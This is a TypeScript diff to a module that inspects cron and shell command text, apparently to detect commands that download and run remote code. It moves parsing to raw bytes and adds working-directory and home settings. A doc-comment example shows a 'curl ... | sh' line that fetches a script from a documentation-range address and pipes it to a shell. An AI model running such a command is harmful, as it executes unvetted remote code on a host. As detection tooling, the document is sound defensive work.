@@ -1,5 +1,6 @@
-import { show, unshow } from '../show.ts';
+import { unshow } from '../show.ts';
 import type { FetchAddress, Shown } from '../snapshot.ts';
+import { byteTextOf, shownBytes } from './byte-text.ts';
 import { commandAsRun } from './cron-text.ts';
 import { basename } from './paths.ts';
 import { scriptFacts } from './script-facts.ts';
@@ -20,7 +21,7 @@ export interface CommandFacts {
 }
 
 const utf8 = new TextDecoder();
-/** Plain text of shown text, for reading syntax; invalid bytes become U+FFFD. */
+/** Plain text of shown text, for people's words and for comparing; invalid bytes become U+FFFD. Programs are read from {@link byteTextOf}. */
 export function plain(shown: Shown): string {
   try {
     return utf8.decode(unshow(shown));
@@ -29,13 +30,24 @@ export function plain(shown: Shown): string {
   }
 }
 
+/** Where a command runs, as the host said it. */
+export interface CommandSetting extends Pick<Setting, 'language'> {
+  readonly cwd?: Shown | undefined;
+  readonly home?: Shown | undefined;
+}
+
 /**
  * @param shown a cron line's command, a shell's `-c` text
  * @param setting where it runs
  * @example commandFacts(show('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns → true
  */
-export function commandFacts(shown: Shown, setting: Setting = {}): CommandFacts {
-  const { fetches, fetchesAndRuns, paths, program } = textFacts(plain(shown), setting);
+export function commandFacts(shown: Shown, setting: CommandSetting = {}): CommandFacts {
+  const { fetches, fetchesAndRuns, paths, program } = textFacts(byteTextOf(shown), {
+    bytes: true,
+    cwd: setting.cwd === undefined ? undefined : byteTextOf(setting.cwd),
+    home: setting.home === undefined ? undefined : byteTextOf(setting.home),
+    language: setting.language,
+  });
   return {
     fetches,
     fetchesAndRuns,
@@ -53,7 +65,7 @@ export const fetchedBy = (argv: readonly Shown[]): readonly FetchAddress[] =>
   scriptFacts([basename(argv[0] ?? ''), ...argv.slice(1)].map(plain).join(' ')).fetches;
 
 /** A crontab's command as the shell gets it, shown. */
-export const cronCommand = (command: Shown): Shown => show(commandAsRun(plain(command)));
+export const cronCommand = (command: Shown): Shown => shownBytes(commandAsRun(byteTextOf(command)));
 
 export const downloadKey = (address: Pick<FetchAddress, 'scheme' | 'host' | 'port'>): string =>
   `${address.scheme}://${address.host.includes(':') ? `[${address.host}]` : address.host}:${address.port}`;
